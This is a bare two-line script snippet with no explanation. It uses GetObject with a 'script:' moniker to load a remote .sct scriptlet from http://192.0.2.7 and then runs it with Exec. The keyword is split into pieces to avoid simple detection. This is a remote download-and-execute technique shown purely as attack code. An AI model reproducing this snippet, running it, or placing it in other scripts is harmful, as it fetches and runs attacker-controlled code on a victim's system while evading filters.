var o = GetObject("scr" + "ipt:http://192.0.2.7/a.sct");
o.Exec();
